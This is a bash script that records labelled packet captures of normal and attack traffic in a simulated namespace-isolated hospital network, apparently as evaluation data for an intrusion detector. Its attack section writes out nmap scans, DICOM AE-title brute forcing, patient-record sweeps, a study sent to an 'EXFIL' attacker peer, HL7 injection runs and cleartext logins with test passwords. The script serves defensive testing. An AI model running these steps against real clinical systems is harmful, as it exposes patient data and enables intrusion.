#!/bin/bash
# record.sh: records the labelled evaluation captures of package detect: a
# small hospital network of real peers (Orthanc, dcmtk, nmap, curl, vsftpd,
# busybox telnetd, samba, and the MLLP/ASTM peers of evaltool.py), each host
# in a network namespace of its own on one bridge, tcpdump on the bridge.
# Run as root from anywhere:
#
#	sudo bash detect/testdata/eval/record.sh
#
# Environment: DAY_SECONDS (default 180) is the length of each normal day in
# real seconds; ONLY="normal-day1 attack-scan ..." records only those
# captures (the setup, including the studies preloaded into Orthanc, always
# runs); KEEP=1 keeps the temporary directory with every peer's log. Every address is in 10.221.0.0/24 (MT_NET), every namespace is named
# mtdt* (MT_PREFIX); the namespaces, their processes and the temporary
# directory are removed on exit. Needs (Debian packages): iproute2 tcpdump
# util-linux dcmtk orthanc nmap curl python3-pydicom vsftpd telnet
# busybox-static samba smbclient libnss-wrapper openssl. See README.md for
# the host plan, the captures and their labels.
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
root=$(cd "$here/../../.." && pwd)
MT_PREFIX=mtdt MT_NET=10.221.0
. "$root/internal/netns/netns.sh"
set -o pipefail
N=$MT_NET
PY=/usr/bin/python3
TOOL="$PY $here/evaltool.py"
DAY_SECONDS=${DAY_SECONDS:-180}
ONLY=${ONLY:-}
WRAP=/usr/lib/x86_64-linux-gnu/libnss_wrapper.so

say() { printf '%s record.sh: %s\n' "$(date -u +%H:%M:%S)" "$*" >&2; }
die() { say "error: $*"; exit 1; }

[ "$(id -u)" = 0 ] || die "run as root (network namespaces, tcpdump)"
for c in ip tcpdump ss unshare timeout curl openssl storescu echoscu findscu movescu storescp nmap \
	/usr/sbin/Orthanc vsftpd telnet smbd smbclient smbpasswd $PY; do
	command -v "$c" >/dev/null || die "missing $c"
done
$PY -c 'import pydicom' || die "missing python3-pydicom"
[ -e "$WRAP" ] || die "missing $WRAP (libnss-wrapper)"
busybox telnetd --help >/dev/null 2>&1 || die "busybox has no telnetd (busybox-static)"
if ip netns list | grep -q "^$MT_PREFIX"; then die "namespaces $MT_PREFIX* exist already"; fi

work=$(mktemp -d /tmp/mtdt-record.XXXXXX)
chmod 755 "$work"
cleanup() {
	local rc=$?
	mt_cleanup
	if [ $rc -ne 0 ]; then tail -n 15 "$work"/*.log >&2 2>/dev/null || true; fi
	[ -n "${KEEP:-}" ] && say "kept $work" || rm -rf "$work"
}
trap cleanup EXIT

# --- the network ---------------------------------------------------------
# name:address pairs; MAC addresses are fixed (02:00:0a:dd:00:NN) so that
# every capture of every recording shows the same devices.
hosts="pacs:10 arch:11 ct:20 mr:21 ws:30 engine:40 adt:41 lis:42 astm:50 att:66"
mt_bridge
for h in $hosts; do
	name=${h%%:*} n=${h##*:}
	mt_peer "$name" "$n"
	ns=$MT_PREFIX$name
	ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1
	ip -n "$ns" link set "${ns}0" down
	ip -n "$ns" link set "${ns}0" address "$(printf '02:00:0a:dd:00:%02x' "$n")"
	ip -n "$ns" link set "${ns}0" up
done
ip netns exec "${MT_PREFIX}br" sysctl -qw net.ipv6.conf.all.disable_ipv6=1

# c HOST CMD...: run a client in HOST's namespace, at most CT (60) s.
c() { local h=$1; shift; timeout "${CT:-60}" ip netns exec "$MT_PREFIX$h" "$@"; }

# --- data ----------------------------------------------------------------
say "making studies"
mkdir -p "$work/studies"
gen() { $TOOL studies "$work/studies" "$1" "$2" "$3" >"$work/studies/$1.tsv"; }
gen arc 40 mr   # preloaded into Orthanc before any capture
gen dct 12 ct; gen dmr 12 mr   # normal day 1
gen ect 12 ct; gen emr 12 mr   # normal day 2
gen bct 40 ct; gen bmr 40 mr   # the background of the attack captures
gen xct 2 ct
$TOOL polyglot "$work/studies/xct000/img0.dcm" "$work/polyglot.dcm"
$TOOL privexe "$work/studies/xct001/img0.dcm" "$work/privexe.dcm"

# --- servers -------------------------------------------------------------
orthanc_conf() { # orthanc_conf AUTH: the configuration, authentication on (1) or off (0)
	local auth=false
	[ "$1" = 1 ] && auth=true
	cat >"$work/orthanc.json" <<CONF
{
  "Name" : "PACS01",
  "StorageDirectory" : "$work/orthanc-db",
  "IndexDirectory" : "$work/orthanc-db",
  "StorageCompression" : false,
  "Plugins" : [ ],
  "HttpServerEnabled" : true,
  "HttpPort" : 8042,
  "RemoteAccessAllowed" : true,
  "AuthenticationEnabled" : $auth,
  "RegisteredUsers" : { "orthanc" : "orthanc" },
  "DicomServerEnabled" : true,
  "DicomAet" : "ORTHANC",
  "DicomPort" : 104,
  "DicomCheckCalledAet" : true,
  "DicomCheckModalityHost" : false,
  "DicomAlwaysAllowEcho" : true,
  "DicomAlwaysAllowStore" : true,
  "DicomAlwaysAllowFind" : false,
  "DicomAlwaysAllowMove" : false,
  "DicomAssociationCloseDelay" : 0,
  "DicomThreadsCount" : 16,
  "DicomScuTimeout" : 10,
  "DicomScpTimeout" : 30,
  "DicomModalities" : {
    "CT01" : [ "CT01", "$N.20", 104 ],
    "MR01" : [ "MR01", "$N.21", 104 ],
    "RADWS" : [ "RADWS", "$N.30", 11112 ],
    "ARCHIVE2" : [ "ARCHIVE2", "$N.11", 104 ]
  },
  "SaveJobs" : false,
  "OverwriteInstances" : true,
  "MallocArenaMax" : 2,
  "ConcurrentJobs" : 1
}
CONF
}
orthanc_pid=
orthanc_start() { # orthanc_start AUTH
	orthanc_conf "$1"
	ip netns exec ${MT_PREFIX}pacs /usr/sbin/Orthanc "$work/orthanc.json" >>"$work/orthanc.log" 2>&1 &
	orthanc_pid=$!
	mt_wait_port pacs 104
	mt_wait_port pacs 8042
}
orthanc_stop() {
	kill "$orthanc_pid"
	wait "$orthanc_pid" || true
	orthanc_pid=
}
# rest ARGS...: Orthanc's REST API from the PACS itself (on its loopback, not captured).
rest() { ip netns exec ${MT_PREFIX}pacs curl -sS --max-time 30 -u orthanc:orthanc "$@"; }

mkdir -p "$work/orthanc-db" "$work/arch" "$work/ws" "$work/att"
orthanc_start 0
mt_in arch storescp --aetitle ARCHIVE2 --output-directory "$work/arch" 104 >"$work/arch.log" 2>&1 &
mt_in ws storescp --aetitle RADWS --output-directory "$work/ws" 11112 >"$work/ws.log" 2>&1 &
mt_in engine $TOOL mllp-server $N.40 2575 "$work/engine.log" >"$work/engine.err" 2>&1 &
mt_in lis $TOOL astm-server $N.42 5000 >"$work/astm.err" 2>&1 &
mt_wait_port arch 104
mt_wait_port ws 11112
mt_wait_port engine 2575
mt_wait_port lis 5000

say "preloading $(wc -l <"$work/studies/arc.tsv") studies into Orthanc"
for f in "$work"/studies/arc*/img*.dcm; do
	rest -o /dev/null -X POST --data-binary @"$f" http://127.0.0.1:8042/instances
done
[ "$(rest http://127.0.0.1:8042/studies | grep -c '"')" -ge 40 ] || die "Orthanc holds fewer than 40 studies"

# --- capture -------------------------------------------------------------
cur=
attacks="attack-scan attack-sweep attack-move attack-polyglot attack-hl7 attack-malformed attack-newpeer attack-aebrute attack-anyae attack-http-basic attack-ftp attack-telnet attack-smb1"
begin() {
	cur=$1
	local a pos=0
	for a in $attacks; do pos=$((pos + 1)); [ "$a" = "$cur" ] && bgk=$((pos * 8)); done
	ip netns exec ${MT_PREFIX}br tcpdump -i br0 -n -s 0 -B 32768 -U --immediate-mode -w "$work/$cur.pcap" "ip or arp" 2>"$work/$cur.tcpdump.log" &
	mt_tcpdump=$!
	for _ in $(seq 100); do
		grep -qs "listening on" "$work/$cur.tcpdump.log" && break
		sleep 0.1
	done
	sleep 0.3
	say "recording $cur"
}
end() {
	wait_bg
	sleep 1
	kill -INT "$mt_tcpdump"
	wait "$mt_tcpdump" || true
	mt_tcpdump=
	grep -q "^0 packets dropped by kernel" "$work/$cur.tcpdump.log" || die "tcpdump dropped packets"
	cp "$work/$cur.pcap" "$here/$cur.pcap"
	say "$cur.pcap: $(stat -c %s "$here/$cur.pcap") bytes"
}
want() { [ -z "$ONLY" ] || [[ " $ONLY " == *" $1 "* ]]; }

# --- normal traffic ------------------------------------------------------
# The same hosts, pairs, AE titles and HL7 senders every day:
#   CT01 (.20) and MR01 (.21) store their new studies into ORTHANC (.10:104)
#     and verify it with C-ECHO;
#   RADWS (.30) queries ORTHANC at STUDY level for one patient ID and moves
#     the study to itself (Orthanc opens an association to .30:11112), and
#     reads the study list from Orthanc's REST API (.10:8042, no login);
#   Orthanc forwards studies to ARCHIVE2 (.11:104);
#   ADT_SYS/GENHOSP (.41) sends ADT^A01 and ADT^A08, LIS/GENLAB (.42) sends
#     ORU^R01 (four OBX, status F) to the engine (.40:2575); the analyser
#     (.50) sends ASTM results to the LIS (.42:5000).
# study POOL I: "dir pid name uid" of study I of POOL.
study() { sed -n "$(($2 + 1))p" "$work/studies/$1.tsv"; }
storeq() { # storeq HOST AET POOL I
	local dir pid name uid
	read -r dir pid name uid <<<"$(study "$3" "$4")"
	c "$1" storescu -R -aet "$2" -aec ORTHANC $N.10 104 "$dir"/img*.dcm
	echo "$uid $pid" >>"$work/stored.$3"
}
seqno=0
# tick POOL_CT POOL_MR K [nohttp]: the K-th normal action.
tick() {
	local k=$3 i=$(($3 / 8)) uid pid id
	seqno=$((seqno + 1))
	case $((k % 8)) in
	0) storeq ct CT01 "$1" "$i" ;;
	1) if [ $((i % 2)) = 0 ]; then c adt $TOOL hl7 $N.40 2575 adt $((seqno * 10)) 1; else c adt $TOOL hl7 $N.40 2575 adt08 $((seqno * 10)) 2; fi ;;
	2) storeq mr MR01 "$2" "$i" ;;
	3) c lis $TOOL hl7 $N.40 2575 oru $((seqno * 20)) $((12 + i % 5)) ;;
	4)
		read -r uid pid <<<"$(tail -n 1 "$work/stored.$1")"
		c ws findscu -aet RADWS -aec ORTHANC -S -k QueryRetrieveLevel=STUDY -k "PatientID=$pid" -k PatientName \
			-k StudyInstanceUID -k StudyDate -k StudyDescription -k ModalitiesInStudy $N.10 104 2>>"$work/find.log"
		c ws movescu -aet RADWS -aec ORTHANC -aem RADWS -S -k QueryRetrieveLevel=STUDY -k "StudyInstanceUID=$uid" $N.10 104 2>>"$work/move.log"
		;;
	5)
		read -r uid pid <<<"$(tail -n 1 "$work/stored.$2")"
		id=$(rest -X POST -d "$uid" http://127.0.0.1:8042/tools/lookup | grep -o '"ID" : "[^"]*"' | cut -d'"' -f4)
		[ -n "$id" ] || die "Orthanc does not know study $uid"
		rest -o /dev/null -X POST -d "$id" http://127.0.0.1:8042/modalities/ARCHIVE2/store
		;;
	6)
		if [ $((i % 2)) = 0 ]; then c ct echoscu -aet CT01 -aec ORTHANC $N.10 104; else c mr echoscu -aet MR01 -aec ORTHANC $N.10 104; fi
		c astm $TOOL astm $N.42 5000 "$seqno"
		;;
	7) if [ "${4:-}" != nohttp ]; then
		c ws curl -sS -o /dev/null --max-time 10 "http://$N.10:8042/studies"
		c ws curl -sS -o /dev/null --max-time 10 "http://$N.10:8042/statistics"
	fi ;;
	esac
}
# day POOL_CT POOL_MR TICKS SECONDS: a normal day, a tick every SECONDS/TICKS s (with jitter).
day() {
	local gap=$(($4 * 1000 / $3)) k ms
	for k in $(seq 0 $(($3 - 1))); do
		tick "$1" "$2" "$k"
		ms=$((gap / 2 + RANDOM % gap))
		sleep "$(printf '%d.%03d' $((ms / 1000)) $((ms % 1000)))"
	done
}
# The background of an attack capture: one pass of the eight actions from
# pools bct and bmr at the pace of a normal day, the same actions for a
# capture whatever ONLY says; bg_start OPT runs it in the background, end
# waits for it.
bgk=0
bg_pid=
bg_start() {
	local ms=$((DAY_SECONDS * 1000 / 64))
	(
		seqno=$((200 + bgk))
		for k in $(seq 0 7); do
			tick bct bmr $((bgk + k)) "${1:-}"
			sleep "$(printf '%d.%03d' $((ms / 1000)) $((ms % 1000)))"
		done
	) >>"$work/bg.log" 2>&1 &
	bg_pid=$!
}
wait_bg() { if [ -n "$bg_pid" ]; then wait "$bg_pid" || die "the background traffic failed"; bg_pid=; fi; }

RANDOM=2026
if want normal-day1; then
	begin normal-day1
	day dct dmr 64 "$DAY_SECONDS"
	end
fi
if want normal-day2; then
	begin normal-day2
	day ect emr 64 "$DAY_SECONDS"
	end
fi
# The attack captures' background needs a stored study of each pool first.
storeq ct CT01 bct 39
storeq mr MR01 bmr 39

# --- attacks -------------------------------------------------------------
if want attack-scan; then
	begin attack-scan
	bg_start
	sleep 1
	c att nmap -n -Pn -sS --max-rate 300 --max-retries 1 -p 1-300,2575,5000,8042,11112 $N.10,11,20 >"$work/nmap-sS.log" 2>&1
	c att nmap -n -Pn -p 104 --script dicom-ping $N.10 >"$work/nmap-ping.log" 2>&1
	printf '%s\n' PACS DCM4CHEE STORESCP CONQUESTSRV1 DICOM ORTHANC SERVER ARCHIVE IMPAX PACS1 >"$work/aets.txt"
	CT=150 c att nmap -n -Pn -p 104 --script dicom-brute --script-args "passdb=$work/aets.txt,brute.firstonly=true,brute.start=1,brute.threads=2,unpwdb.timelimit=120s" $N.10 >"$work/nmap-brute.log" 2>&1
	grep -q "ORTHANC - Valid" "$work/nmap-brute.log" || die "dicom-brute did not find ORTHANC"
	CT=150 c att nmap -n -Pn -sV --version-light -p 104,2575,5000,8042,11112 $N.10,30,40,42 >"$work/nmap-sV.log" 2>&1
	end
fi

if want attack-sweep; then
	begin attack-sweep
	bg_start
	c ws findscu -aet RADWS -aec ORTHANC -P -k QueryRetrieveLevel=PATIENT -k "PatientName=*" -k PatientID -k PatientBirthDate -k PatientSex $N.10 104 2>"$work/sweep1.log"
	c ws findscu -aet RADWS -aec ORTHANC -P -k QueryRetrieveLevel=PATIENT -k "PatientID=*" -k PatientName -k PatientBirthDate $N.10 104 2>"$work/sweep2.log"
	c ws findscu -aet RADWS -aec ORTHANC -S -k QueryRetrieveLevel=STUDY -k "PatientName=*" -k PatientID -k PatientBirthDate \
		-k StudyInstanceUID -k StudyDate -k StudyDescription -k AccessionNumber $N.10 104 2>"$work/sweep3.log"
	[ "$(grep -c 'Find Response' "$work/sweep3.log")" -ge 40 ] || die "the study sweep returned fewer than 40 responses"
	end
fi

if want attack-move; then
	begin attack-move
	bg_start
	read -r _ _ _ uid <<<"$(study arc 0)"
	if c ws movescu -aet RADWS -aec ORTHANC -aem EXFIL01 -S -k QueryRetrieveLevel=STUDY -k "StudyInstanceUID=$uid" $N.10 104 2>"$work/move-unknown.log"; then :; fi
	grep -q -i "UnableToProcess\|Unknown Move Destination\|Refused" "$work/move-unknown.log" || say "warning: no refusal seen in move-unknown.log"
	for i in $(seq 1 80); do
		read -r _ _ _ uid <<<"$(study arc $((i % 40)))"
		c ws movescu -aet RADWS -aec ORTHANC -aem RADWS -S -k QueryRetrieveLevel=STUDY -k "StudyInstanceUID=$uid" $N.10 104 2>>"$work/burst.log"
	done
	end
fi

if want attack-polyglot; then
	begin attack-polyglot
	bg_start
	c att curl -sS -o "$work/poly.json" --max-time 20 -X POST -H 'Content-Type: application/dicom' \
		--data-binary @"$work/polyglot.dcm" "http://$N.10:8042/instances"
	grep -q '"Status"' "$work/poly.json" || die "Orthanc did not take the polyglot"
	sleep 1
	c ct storescu -R -aet CT01 -aec ORTHANC $N.10 104 "$work/privexe.dcm"
	end
fi

if want attack-hl7; then
	begin attack-hl7
	bg_start
	c att $TOOL hl7 $N.40 2575 newsender 9000 2
	sleep 1
	c lis $TOOL hl7 $N.40 2575 inject-script 9010 1
	c lis $TOOL hl7 $N.40 2575 inject-sql 9011 1
	c lis $TOOL hl7 $N.40 2575 inject-shell 9012 1
	sleep 1
	c lis $TOOL hl7 $N.40 2575 correction 9013 1
	end
fi

if want attack-malformed; then
	begin attack-malformed
	bg_start
	c att $TOOL dicom-garbage $N.10 104
	c att $TOOL hl7-garbage $N.40 2575
	end
fi

if want attack-newpeer; then
	mt_in att storescp --aetitle EXFIL --output-directory "$work/att" 104 >"$work/att.log" 2>&1 &
	mt_wait_port att 104
	begin attack-newpeer
	bg_start
	read -r dir _ _ _ <<<"$(study bct 20)"
	c ct storescu -R -aet CT01 -aec RADWS $N.30 11112 "$dir"/img*.dcm
	read -r dir _ _ _ <<<"$(study bmr 20)"
	c mr storescu -R -aet MR01 -aec EXFIL $N.66 104 "$dir"/img*.dcm
	end
fi

if want attack-aebrute; then
	begin attack-aebrute
	bg_start
	n=0
	for ae in PACS PACS1 PACSSRV DICOM DCMSRV STORESCP STORE ARCHIVE ARCH01 SERVER QRSCP QR_SCP \
		IMPAX DCM4CHEE CONQUESTSRV1 AGFA SYNAPSE CENTRICITY ISITE ORTHANC; do
		n=$((n + 1))
		if c att echoscu -to 5 -aet SCANNER -aec "$ae" $N.10 104 2>>"$work/aebrute.log"; then
			say "AE brute force: $ae accepted after $n tries"
			break
		fi
	done
	end
fi

if want attack-anyae; then
	begin attack-anyae
	bg_start
	c ws echoscu -aet HOROS -aec ORTHANC $N.10 104
	c ws findscu -aet HOROS -aec ORTHANC -S -k QueryRetrieveLevel=STUDY -k PatientID=MRNARC001 -k StudyInstanceUID $N.10 104 2>"$work/anyae-find.log" || true
	for ae in STORESCU XRAY7 CT99 WS_TEST; do
		c att echoscu -aet "$ae" -aec ORTHANC $N.10 104
	done
	read -r dir _ _ _ <<<"$(study xct 1)"
	c att storescu -R -aet WS_TEST -aec ORTHANC $N.10 104 "$dir/img0.dcm"
	end
fi

if want attack-http-basic; then
	orthanc_stop
	orthanc_start 1
	begin attack-http-basic
	bg_start nohttp
	for p in system studies patients "studies?expand"; do
		c ws curl -sS -o /dev/null --max-time 10 -u orthanc:orthanc "http://$N.10:8042/$p"
	done
	code=$(c ws curl -sS -o /dev/null -w '%{http_code}' --max-time 10 "http://$N.10:8042/system")
	[ "$code" = 401 ] || die "Orthanc answered $code without credentials"
	end
	orthanc_stop
	orthanc_start 0
fi

# vsftpd and busybox telnetd run on the PACS in a mount namespace of their
# own where /etc/passwd and /etc/shadow hold one local user (the host's
# accounts are untouched).
mkdir -p "$work/ftp/empty" "$work/ftp/home"
echo "study export" >"$work/ftp/home/export.txt"
chown -R 1999:1999 "$work/ftp/home"
hash=$(openssl passwd -6 -salt medtapsalt 'Pacs-Pa55word')
printf 'root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\npacsadmin:x:1999:1999:pacs:%s:/bin/sh\n' "$work/ftp/home" >"$work/passwd"
printf 'root:*:19000:0:99999:7:::\nnobody:*:19000:0:99999:7:::\npacsadmin:%s:19000:0:99999:7:::\n' "$hash" >"$work/shadow"
chmod 640 "$work/shadow"
userns() { echo "mount --bind $work/passwd /etc/passwd && mount --bind $work/shadow /etc/shadow && exec $*"; }

if want attack-ftp; then
	cat >"$work/vsftpd.conf" <<CONF
listen=YES
listen_address=$N.10
background=NO
anonymous_enable=NO
local_enable=YES
write_enable=NO
pam_service_name=vsftpd
secure_chroot_dir=$work/ftp/empty
nopriv_user=nobody
seccomp_sandbox=NO
pasv_enable=YES
pasv_min_port=40000
pasv_max_port=40010
CONF
	mt_in pacs unshare -m sh -c "$(userns vsftpd "$work/vsftpd.conf")" >"$work/vsftpd.log" 2>&1 &
	ftp_pid=$!
	mt_wait_port pacs 21
	begin attack-ftp
	bg_start
	c ws curl -sS -o /dev/null --max-time 10 -u pacsadmin:Pacs-Pa55word "ftp://$N.10/export.txt"
	end
	kill "$ftp_pid"; wait "$ftp_pid" || true
fi

if want attack-telnet; then
	mkdir -p "$work/bin"
	ln -sf "$(command -v busybox)" "$work/bin/login"
	mt_in pacs unshare -mu sh -c "hostname pacs01 && $(userns busybox telnetd -F -b $N.10:23 -l "$work/bin/login")" >"$work/telnetd.log" 2>&1 &
	telnet_pid=$!
	mt_wait_port pacs 23
	begin attack-telnet
	bg_start
	{
		sleep 1.5
		printf 'pacsadmin\r'; sleep 1
		printf 'Pacs-Pa55word\r'; sleep 2
		printf 'ls /\r'; sleep 0.5
		printf 'exit\r'; sleep 1
	} | c ws telnet $N.10 23 >"$work/telnet.out" 2>&1 || true
	end
	kill "$telnet_pid"; wait "$telnet_pid" || true
fi

if want attack-smb1; then
	# smbd on the archive (.11) allows SMB1 (server min protocol = NT1); the
	# PACS copies a file to its share with smbclient -m NT1. The account is in
	# a passwd file read through nss_wrapper; every samba directory is under
	# the temporary directory.
	s=$work/smb
	mkdir -p "$s"/{private,state,cache,lock,pid,rpc,bind,share,log,c}
	chmod 777 "$s/share"
	printf 'backup:x:5000:5000:PACS backup:%s:/bin/false\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\nroot:x:0:0:root:/root:/bin/false\n' "$s/share" >"$s/passwd"
	printf 'backup:x:5000:\nnogroup:x:65534:\nroot:x:0:\n' >"$s/group"
	cat >"$s/smb.conf" <<CONF
[global]
	workgroup = RADIOLOGY
	netbios name = ARCHIVE2
	server role = standalone server
	interfaces = $N.11/24
	bind interfaces only = yes
	smb ports = 445
	disable netbios = yes
	server min protocol = NT1
	passdb backend = tdbsam:$s/private/passdb.tdb
	private dir = $s/private
	state directory = $s/state
	cache directory = $s/cache
	lock directory = $s/lock
	pid directory = $s/pid
	ncalrpc dir = $s/rpc
	binddns dir = $s/bind
	log file = $s/log/smbd.%m
	load printers = no
	printing = bsd
	printcap name = /dev/null
	disable spoolss = yes
	map to guest = never
[backup]
	path = $s/share
	read only = no
	valid users = backup
CONF
	cat >"$s/client.conf" <<CONF
[global]
	workgroup = RADIOLOGY
	netbios name = PACS01
	client min protocol = NT1
	private dir = $s/c
	state directory = $s/c
	cache directory = $s/c
	lock directory = $s/c
	pid directory = $s/c
	ncalrpc dir = $s/c
	log file = $s/log/smbclient
CONF
	export NSS_WRAPPER_PASSWD="$s/passwd" NSS_WRAPPER_GROUP="$s/group"
	printf 'Backup-Pa55word\nBackup-Pa55word\n' | LD_PRELOAD=$WRAP smbpasswd -c "$s/smb.conf" -s -a backup >"$work/smbpasswd.log" 2>&1
	mt_in arch env LD_PRELOAD=$WRAP setsid smbd --foreground --no-process-group -s "$s/smb.conf" --debug-stdout >"$work/smbd.log" 2>&1 &
	mt_wait_port arch 445
	head -c 6000 /dev/urandom >"$s/index.bin"
	begin attack-smb1
	bg_start
	(cd "$s" && c pacs smbclient -s "$s/client.conf" //$N.11/backup -U 'backup%Backup-Pa55word' -m NT1 -c 'put index.bin; ls') >"$work/smbclient.log" 2>&1 ||
		die "smbclient failed: $(cat "$work/smbclient.log")"
	end
	grep -q 'blocks of size' "$work/smbclient.log" || die "smbclient listed nothing"
	unset NSS_WRAPPER_PASSWD NSS_WRAPPER_GROUP
fi
say done
